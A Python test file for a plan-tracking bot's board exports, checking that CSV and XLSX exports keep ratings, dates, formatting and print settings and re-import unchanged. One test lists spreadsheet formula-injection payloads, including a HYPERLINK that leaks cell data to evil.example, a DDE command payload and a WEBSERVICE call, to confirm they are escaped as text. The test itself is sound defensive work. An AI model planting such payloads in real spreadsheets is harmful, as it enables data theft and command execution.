"""Exporting a plan for the board and reading the export back: nothing changes."""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import PlanPulse
from bot.domain.model import Source
from handlers.files.importing import import_plan
from storage.models import ActionRow, MilestoneRow, PlanRow
from storage.repositories import UpdateRepository
from tests.conftest import EXAMPLES, running_pulse

NOW = datetime(2018, 5, 30, 9, 0, tzinfo=UTC)
EVIDENCE = "=Re-referrals down from 24% to 17%\nhttps://wirral.example/board/audit"
WIRRAL = EXAMPLES / "wirral"


@pytest.fixture
async def pulse(db_url: str, tmp_path: Path) -> AsyncIterator[PlanPulse]:
    async with running_pulse(db_url, tmp_path, lambda: NOW) as app:
        await import_plan(
            app.sessions,
            WIRRAL / "plan.csv",
            now=NOW,
            plan_key="wirral",
            people_path=WIRRAL / "people.csv",
            networks_path=WIRRAL / "networks.csv",
            ratings_as_of=date(2018, 4, 16),
        )
        async with app.sessions() as session, session.begin():
            milestone_id = await session.scalar(
                select(MilestoneRow.id).where(MilestoneRow.ref == "1.1-1")
            )
            assert milestone_id is not None
            await UpdateRepository(session).add(
                milestone_id=milestone_id,
                rating=2,
                note="Agreed, with one action left; “quotes”",
                revised_due=date(2018, 7, 31),
                needs_support=True,
                source=Source.EMAIL,
                given_at=NOW,
                recorded_at=NOW,
            )
            # 1.1-2 achieved, with evidence that opens like a formula and spans two lines.
            achieved_id = await session.scalar(
                select(MilestoneRow.id).where(MilestoneRow.ref == "1.1-2")
            )
            assert achieved_id is not None
            await UpdateRepository(session).add(
                milestone_id=achieved_id,
                rating=1,
                note=None,
                source=Source.EMAIL,
                given_at=NOW,
                recorded_at=NOW,
                evidence=EVIDENCE,
            )
        yield app


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_export_carries_latest_progress_and_reimports_without_change(
    pulse: PlanPulse, tmp_path: Path, fmt: str
) -> None:
    """The export has one row per milestone in the plan's own headings with the latest
    rating, note, date, revised date, support ask and status, and importing it back changes
    nothing at all."""
    before = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    path = await pulse.export(
        "wirral", fmt=fmt, as_of=date(2018, 6, 1), output=tmp_path / f"board.{fmt}"
    )
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            table = [dict(r) for r in csv.DictReader(handle)]
    else:
        sheet = load_workbook(path)["Plan"]
        values = [[_text(c) for c in r] for r in sheet.iter_rows(values_only=True)]
        table = [dict(zip(values[0], r, strict=True)) for r in values[1:]]
    assert len(table) == 77
    assert list(table[0])[:12] == [
        "Priority",
        "Ref",
        "Milestone ref",
        "Key actions",
        "Lead(s)",
        "Lead names",
        "Timescales",
        "Due",
        "Milestones",
        "Progress 1 - 4",
        "Rating in words",
        "Network(s)",
    ]
    first = table[0]
    assert (first["Ref"], first["Milestone ref"], table[1]["Milestone ref"]) == (
        "1.1",
        "1.1-1",
        "1.1-2",
    )
    assert first["Progress 1 - 4"] == "2"
    assert first["Rating in words"] == "Largely achieved, some tasks outstanding"
    assert first["Notes"] == "Agreed, with one action left; “quotes”"
    assert first["Last updated"] == "30/05/2018"
    assert first["Revised date"] == "31/07/2018"
    assert first["Needs support"] == "yes"
    assert table[1]["Revised date"] == table[1]["Needs support"] == ""
    assert first["Status"] == "overdue by 1 day"
    evidence = "'" + EVIDENCE if fmt == "csv" else EVIDENCE  # a CSV cell quotes a formula
    assert (first["Evidence"], table[1]["Evidence"]) == ("", evidence)
    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
    assert not [w for w in report.warnings if "not recognised" in w.reason or "second" in w.reason]
    assert report.actions_added == report.actions_changed == report.actions_retired == 0
    assert report.milestones_added == report.milestones_changed == 0
    assert report.milestones_retired == 0
    assert report.ratings_recorded == 0
    after = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    assert [line.status for line in after] == [line.status for line in before]


def _text(value: object) -> str:
    """A cell as the CSV export writes it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%d/%m/%Y")
    return str(value)


HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&C2,"Details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3 and more",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice quoted",
)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_hostile_notes_export_as_text_and_reimport_without_change(
    pulse: PlanPulse, tmp_path: Path, fmt: str
) -> None:
    """Notes, titles and a plan title that a spreadsheet would run as formulas are written as
    plain text (XLSX cells typed as text, CSV cells escaped with a quote), and importing the
    export records nothing and changes nothing."""
    async with pulse.sessions() as session, session.begin():
        ids = (
            await session.scalars(select(MilestoneRow.id).order_by(MilestoneRow.id).limit(8))
        ).all()
        for milestone_id, note in zip(ids[1:], HOSTILE, strict=True):
            await UpdateRepository(session).add(
                milestone_id=milestone_id,
                rating=3,
                note=note,
                source=Source.EMAIL,
                given_at=NOW,
                recorded_at=NOW,
            )
        plan = await session.scalar(select(PlanRow).where(PlanRow.key == "wirral"))
        assert plan is not None
        plan.title = "=1+1 Wirral"
        action = await session.scalar(select(ActionRow).where(ActionRow.ref == "2.1"))
        assert action is not None
        action.title = '=WEBSERVICE("http://evil.example")'
    before = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    path = await pulse.export(
        "wirral", fmt=fmt, as_of=date(2018, 6, 1), output=tmp_path / f"board.{fmt}"
    )
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [c for row in csv.reader(handle) for c in row]
        assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
        assert "'=cmd|' /C calc'!A0" in cells
        assert "'''+twice quoted" in cells
    else:
        with ZipFile(path) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert len(sheets) == 2
            assert all("<f>" not in archive.read(n).decode() for n in sheets)
        book = load_workbook(path)
        typed = {
            c.value: c.data_type
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for c in row
            if isinstance(c.value, str)
        }
        assert all(kind == "s" for kind in typed.values())
        assert set(HOSTILE) <= set(typed)
        assert "=1+1 Wirral" in typed
    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
    assert report.actions_changed == report.milestones_changed == 0
    assert report.ratings_recorded == 0
    after = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    assert [line.status for line in after] == [line.status for line in before]
    assert {line.status.note for line in after} >= set(HOSTILE)
    tracked = await pulse.tracked("wirral")
    assert tracked.plan.title == "=1+1 Wirral"
    assert {a.title for a in tracked.actions if a.ref == "2.1"} == {
        '=WEBSERVICE("http://evil.example")'
    }


async def test_xlsx_export_is_typed_coloured_filtered_printable_and_summarised(
    pulse: PlanPulse, tmp_path: Path
) -> None:
    """The board's workbook opens on a Summary sheet with counts and a native chart of the
    rating mix; its Plan sheet has ratings as numbers and dates as dates, the milestone's
    reference beside the action's, lead names beside initials, status words on RAG fills, a
    filter and frozen header, and prints A4 landscape one page wide under the plan's title;
    importing it back records nothing."""
    path = await pulse.export(
        "wirral", fmt="xlsx", as_of=date(2018, 6, 1), output=tmp_path / "board.xlsx"
    )
    book = load_workbook(path)
    assert book.sheetnames == ["Summary", "Plan"]
    assert book.active is not None
    assert book.active.title == "Summary"
    summary = book["Summary"]
    cells = list(summary.iter_rows(values_only=True))
    head = next(i for i, r in enumerate(cells) if r[:2] == ("Priority", "Overdue"))
    total = next(r for r in cells[head:] if r[0] == "All priorities")
    assert total[7] == 77
    assert sum(total[1:7]) == 77
    assert all(isinstance(v, int) for v in total[1:8])
    (chart,) = summary._charts
    assert chart.tagname == "barChart"
    assert chart.grouping == "stacked"
    assert len(chart.series) == 5  # ratings 1-4 and not rated

    sheet = book["Plan"]
    header = [c.value for c in sheet[1]]
    column = {name: header.index(name) for name in header}
    first = [c for c in sheet[2]]
    assert first[column["Ref"]].value == "1.1"
    assert first[column["Milestone ref"]].value == "1.1-1"
    assert first[column["Progress 1 - 4"]].value == 2
    assert first[column["Progress 1 - 4"]].data_type == "n"
    assert first[column["Rating in words"]].value == "Largely achieved, some tasks outstanding"
    assert first[column["Revised date"]].value == datetime(2018, 7, 31)
    assert first[column["Revised date"]].is_date
    assert first[column["Due"]].is_date
    assert isinstance(first[column["Timescales"]].value, str)
    assert first[column["Lead(s)"]].value == "JB"
    assert first[column["Lead names"]].value == "Joe Bannham"
    fills: dict[str, object] = {}
    for row in sheet.iter_rows(min_row=2):
        status = row[column["Status"]]
        fills[status.value.split(" (")[0].split(" by ")[0]] = status.fill.fgColor.rgb
    assert str(fills["overdue"]).endswith("F4B6B6")
    assert len({fills[k] for k in fills}) >= 2
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}78"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["D"].width > sheet.column_dimensions["B"].width
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9  # A4
    assert sheet.page_setup.fitToWidth == 1
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    tracked = await pulse.tracked("wirral")
    page_header = sheet.oddHeader.center.text
    assert tracked.plan.title.replace("&", "&&")[:40] in page_header
    assert "as of 1 June 2018" in page_header

    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
    assert "read sheet 'Plan'" in [w.reason for w in report.warnings]
    assert not [w for w in report.warnings if "not recognised" in w.reason or "second" in w.reason]
    assert report.actions_changed == report.milestones_changed == report.milestones_added == 0
    assert report.ratings_recorded == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_a_plan_headed_due_exports_its_date_beside_and_reimports_unchanged(
    pulse: PlanPulse, tmp_path: Path, fmt: str
) -> None:
    """A plan whose timescale column is headed "Due" keeps it as written, gets the date
    beside it as "Due date", and importing the export records and changes nothing."""
    plan = tmp_path / "due.csv"
    plan.write_text(
        "Ref,Key actions,Lead(s),Due\n"
        "9.1,Publish the sufficiency statement,JB,Quarterly from July 2018\n"
        "9.2,Agree the audit programme,JB,30/06/2018\n",
        encoding="utf-8",
    )
    await import_plan(
        pulse.sessions, plan, now=NOW, plan_key="due", people_path=WIRRAL / "people.csv"
    )
    path = await pulse.export(
        "due", fmt=fmt, as_of=date(2018, 6, 1), output=tmp_path / f"due.{fmt}"
    )
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            header, *body = list(csv.reader(handle))
    else:
        header, *body = [
            [_text(c) for c in r] for r in load_workbook(path)["Plan"].iter_rows(values_only=True)
        ]
    assert header[header.index("Due") + 1] == "Due date"
    assert [r[header.index("Due")] for r in body] == ["Quarterly from July 2018", "30/06/2018"]
    assert [r[header.index("Due date")] for r in body] == ["30/09/2018", "30/06/2018"]
    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="due")
    assert not [w for w in report.warnings if "not recognised" in w.reason or "second" in w.reason]
    assert report.actions_changed == report.milestones_changed == report.milestones_added == 0
    assert report.ratings_recorded == 0
